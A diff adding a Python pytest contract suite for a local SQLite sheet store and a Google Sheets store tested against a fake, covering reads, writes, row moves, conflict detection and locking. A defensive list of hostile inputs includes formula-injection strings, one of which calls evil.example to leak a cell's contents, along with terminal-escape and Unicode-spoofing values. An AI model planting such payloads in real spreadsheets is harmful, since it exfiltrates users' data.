@@ -1,0 +1,246 @@
+"""One contract, two stores: the local SQLite store and the Google store over the Sheets fake."""
+
+from __future__ import annotations
+
+import sqlite3
+import stat
+import threading
+from pathlib import Path
+
+import pytest
+
+from moc_tui.core.sheets.local import LocalSheetStore
+from moc_tui.core.sheets.store import (
+    RowsChanged,
+    SheetError,
+    SheetStore,
+    SheetUnavailable,
+    TabNotFound,
+)
+from tests.fixtures.sheets import (
+    HEADER,
+    REQUESTS_TAB,
+    USERS_TAB,
+    StoreFactory,
+    all_rows,
+    request_row,
+    seed_tabs,
+)
+
+HOSTILE = [
+    '=HYPERLINK("http://x")',
+    '=IMPORTXML("https://evil.example/"&B2,"//a")',
+    "+1",
+    "-1+2",
+    "@SUM(A1)",
+    "\t=1+1",
+    "'quoted",
+    "0123",
+    "1e3",
+    "TRUE",
+    "Eve\x1b]2;PWNED\x07",
+    "nul\x00inside",
+    "line one\nline two\r\nthree",
+    "Bob\u202egnp.exe",
+    "\u00a0",
+    "adm\u200bin",
+    "測試 👩‍👩‍👧",
+    "x" * 50_000,
+]
+
+
+def test_read_returns_every_row_of_each_tab(store: SheetStore) -> None:
+    assert all_rows(store) == seed_tabs()
+    assert store.read_tabs([USERS_TAB]) == {USERS_TAB: [HEADER]}
+    assert store.read_tabs([]) == {}
+
+
+def test_missing_tab_is_tab_not_found(store: SheetStore) -> None:
+    for call in (
+        lambda: store.read_tabs([REQUESTS_TAB, "Nope"]),
+        lambda: store.write_cells("Nope", {(1, 1): "x"}),
+        lambda: store.append_rows("Nope", [["x"]]),
+        lambda: store.delete_rows("Nope", [2]),
+        lambda: store.move_rows(REQUESTS_TAB, "Nope", [2], [request_row(1)]),
+    ):
+        with pytest.raises(TabNotFound) as caught:
+            call()
+        assert caught.value.tab == "Nope"
+    assert all_rows(store) == seed_tabs()
+
+
+def test_trailing_blanks_are_trimmed_and_inner_blank_rows_kept(store_factory: StoreFactory) -> None:
+    store = store_factory({"T": [["a", "", "b", "", ""], [], ["", "c"], ["", ""], []]})
+    assert store.read_tabs(["T"]) == {"T": [["a", "", "b"], [], ["", "c"]]}
+    store.write_cells("T", {(1, 3): "", (3, 2): ""})
+    assert store.read_tabs(["T"]) == {"T": [["a"]]}
+
+
+def test_write_cells_sets_text_in_one_write(store: SheetStore) -> None:
+    store.write_cells(REQUESTS_TAB, {(2, 6): "2024-05-02T10:00:00+00:00", (4, 1): "", (5, 8): "z"})
+    rows = store.read_tabs([REQUESTS_TAB])[REQUESTS_TAB]
+    assert rows[1] == [*request_row(1), "2024-05-02T10:00:00+00:00"]
+    assert rows[3] == ["", *request_row(3)[1:]]
+    assert rows[4] == [*request_row(4), "", "", "z"]
+    assert rows[2] == request_row(2)
+
+
+def test_append_goes_after_the_last_row_with_data(store_factory: StoreFactory) -> None:
+    store = store_factory({"T": [["h"], ["1"], [], ["3"]]})
+    store.append_rows("T", [["4", "x"], ["5"]])
+    assert store.read_tabs(["T"])["T"] == [["h"], ["1"], [], ["3"], ["4", "x"], ["5"]]
+    store.write_cells("T", {(10, 1): "far"})
+    store.append_rows("T", [["after"]])
+    assert store.read_tabs(["T"])["T"][9:] == [["far"], ["after"]]
+
+
+def test_delete_non_contiguous_rows_shifts_the_rest_up(store: SheetStore) -> None:
+    store.delete_rows(REQUESTS_TAB, [3, 5, 6, 9, 13])
+    kept = [n for n in range(1, 13) if n + 1 not in (3, 5, 6, 9, 13)]
+    assert store.read_tabs([REQUESTS_TAB])[REQUESTS_TAB] == [HEADER] + [
+        request_row(n) for n in kept
+    ]
+
+
+def test_a_failing_batch_changes_nothing(store: SheetStore) -> None:
+    with pytest.raises(SheetError):
+        store.delete_rows(REQUESTS_TAB, [2, 5000])  # beyond the 1000-row grid
+    with pytest.raises(SheetError):
+        store.delete_rows(REQUESTS_TAB, list(range(1, 1001)))  # every row of the grid
+    with pytest.raises(SheetError, match="exceeds grid limits"):
+        store.write_cells(REQUESTS_TAB, {(2, 2): "changed", (1001, 1): "x"})
+    with pytest.raises(SheetError, match="50000"):
+        store.append_rows(USERS_TAB, [["ok"], ["x" * 50_001]])
+    assert all_rows(store) == seed_tabs()
+
+
+def test_values_must_be_text(store: SheetStore) -> None:
+    with pytest.raises(TypeError):
+        store.write_cells(REQUESTS_TAB, {(2, 2): 5})  # type: ignore[dict-item]
+    with pytest.raises(ValueError, match="start at 1"):
+        store.delete_rows(REQUESTS_TAB, [0])
+    assert all_rows(store) == seed_tabs()
+
+
+def test_empty_calls_change_nothing(store: SheetStore) -> None:
+    store.write_cells(REQUESTS_TAB, {})
+    store.append_rows(REQUESTS_TAB, [])
+    store.delete_rows(REQUESTS_TAB, [])
+    store.move_rows(REQUESTS_TAB, USERS_TAB, [], [])
+    assert all_rows(store) == seed_tabs()
+
+
+def test_move_non_contiguous_rows_keeps_their_order(store: SheetStore) -> None:
+    moved = [2, 4, 5, 9, 13]
+    store.move_rows(REQUESTS_TAB, USERS_TAB, moved, [request_row(r - 1) for r in moved])
+    after = all_rows(store)
+    assert after[USERS_TAB] == [HEADER] + [request_row(r - 1) for r in moved]
+    assert after[REQUESTS_TAB] == [HEADER] + [
+        request_row(n) for n in range(1, 13) if n + 1 not in moved
+    ]
+
+
+def test_move_with_a_changed_row_moves_nothing(store: SheetStore) -> None:
+    store.write_cells(REQUESTS_TAB, {(4, 2): "someone@else.example"})  # an edit after our read
+    before = all_rows(store)
+    expected = [request_row(1), request_row(3), request_row(4)]  # what we read earlier
+    with pytest.raises(RowsChanged) as caught:
+        store.move_rows(REQUESTS_TAB, USERS_TAB, [2, 4, 5], expected)
+    assert caught.value.rows == [4]
+    assert caught.value.tab == REQUESTS_TAB
+    assert all_rows(store) == before
+
+
+def test_move_sees_a_sorted_tab(store: SheetStore) -> None:
+    store.delete_rows(REQUESTS_TAB, [2])  # someone removed a row above: positions shifted
+    with pytest.raises(RowsChanged) as caught:
+        store.move_rows(REQUESTS_TAB, USERS_TAB, [3, 6], [request_row(2), request_row(5)])
+    assert caught.value.rows == [3, 6]
+    assert store.read_tabs([USERS_TAB])[USERS_TAB] == [HEADER]
+
+
+def test_move_compares_rows_without_trailing_blanks(store: SheetStore) -> None:
+    store.move_rows(REQUESTS_TAB, USERS_TAB, [2], [[*request_row(1), "", ""]])
+    assert store.read_tabs([USERS_TAB])[USERS_TAB] == [HEADER, request_row(1)]
+
+
+def test_move_argument_mistakes_are_refused(store: SheetStore) -> None:
+    with pytest.raises(ValueError):
+        store.move_rows(REQUESTS_TAB, USERS_TAB, [2, 3], [request_row(1)])
+    with pytest.raises(ValueError):
+        store.move_rows(REQUESTS_TAB, USERS_TAB, [2, 2], [request_row(1), request_row(1)])
+
+
+def test_hostile_values_round_trip_as_text(store_factory: StoreFactory) -> None:
+    store = store_factory(seed_tabs(requests=2))
+    rows = [["2024-05-01", value, f"note {i}"] for i, value in enumerate(HOSTILE)]
+    store.append_rows(REQUESTS_TAB, rows)
+    first = 4  # header + 2 seeded rows
+    assert store.read_tabs([REQUESTS_TAB])[REQUESTS_TAB][first - 1 :] == rows
+
+    cells = {(first + i, 4): value for i, value in enumerate(reversed(HOSTILE))}
+    store.write_cells(REQUESTS_TAB, cells)
+    expected = [[*row, value] for row, value in zip(rows, reversed(HOSTILE), strict=True)]
+    numbers = list(range(first, first + len(HOSTILE)))
+    store.move_rows(REQUESTS_TAB, USERS_TAB, numbers, expected)
+
+    after = all_rows(store)
+    assert after[USERS_TAB] == [HEADER, *expected]
+    assert after[REQUESTS_TAB] == [HEADER, request_row(1), request_row(2)]
+    if store_factory.kind == "google":
+        fake, (key,) = store_factory.fake, store_factory.keys
+        assert fake.flagged(key) == []  # only RAW / stringValue writes
+        assert {r.value_input_option for r in fake.requests(key)} <= {None, "RAW"}
+        assert fake.formula_looking(key)  # ... of values that would be formulas if typed
+
+
+def test_local_store_survives_reopening_and_is_private(local_store: LocalSheetStore) -> None:
+    local_store.move_rows(REQUESTS_TAB, USERS_TAB, [2], [request_row(1)])
+    reopened = LocalSheetStore(local_store.path)
+    assert reopened.read_tabs([USERS_TAB])[USERS_TAB] == [HEADER, request_row(1)]
+    assert stat.S_IMODE(local_store.path.stat().st_mode) == 0o600
+    assert reopened.tab_titles() == [REQUESTS_TAB, USERS_TAB]
+    assert reopened.ensure_tabs([USERS_TAB, "Processed Requests"]) == ["Processed Requests"]
+
+
+def test_local_store_reads_of_a_missing_file_create_nothing(tmp_path: Path) -> None:
+    path = tmp_path / "absent.db"
+    with pytest.raises(TabNotFound):
+        LocalSheetStore(path).read_tabs([REQUESTS_TAB])
+    assert not path.exists()
+
+
+def test_local_store_refuses_a_file_that_is_not_a_store(tmp_path: Path) -> None:
+    path = tmp_path / "notes.db"
+    path.write_text("not sqlite, just text" * 100)
+    with pytest.raises(SheetError, match="not a sheet store"):
+        LocalSheetStore(path).read_tabs([REQUESTS_TAB])
+
+
+def test_local_store_writers_take_turns(local_store: LocalSheetStore) -> None:
+    def writer(name: str) -> None:
+        mine = LocalSheetStore(local_store.path)
+        for n in range(15):
+            mine.append_rows(USERS_TAB, [[name, str(n)]])
+
+    threads = [threading.Thread(target=writer, args=(f"w{i}",)) for i in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    rows = local_store.read_tabs([USERS_TAB])[USERS_TAB][1:]
+    assert sorted(map(tuple, rows)) == sorted(
+        (f"w{i}", str(n)) for i in range(4) for n in range(15)
+    )
+
+
+def test_local_store_locked_too_long_is_unavailable(local_store: LocalSheetStore) -> None:
+    holder = sqlite3.connect(local_store.path, isolation_level=None)
+    holder.execute("BEGIN IMMEDIATE")
+    try:
+        with pytest.raises(SheetUnavailable, match="locked by another process"):
+            LocalSheetStore(local_store.path, timeout=0.05).append_rows(USERS_TAB, [["x"]])
+    finally:
+        holder.execute("ROLLBACK")
+        holder.close()
+    assert local_store.read_tabs([USERS_TAB])[USERS_TAB] == [HEADER]
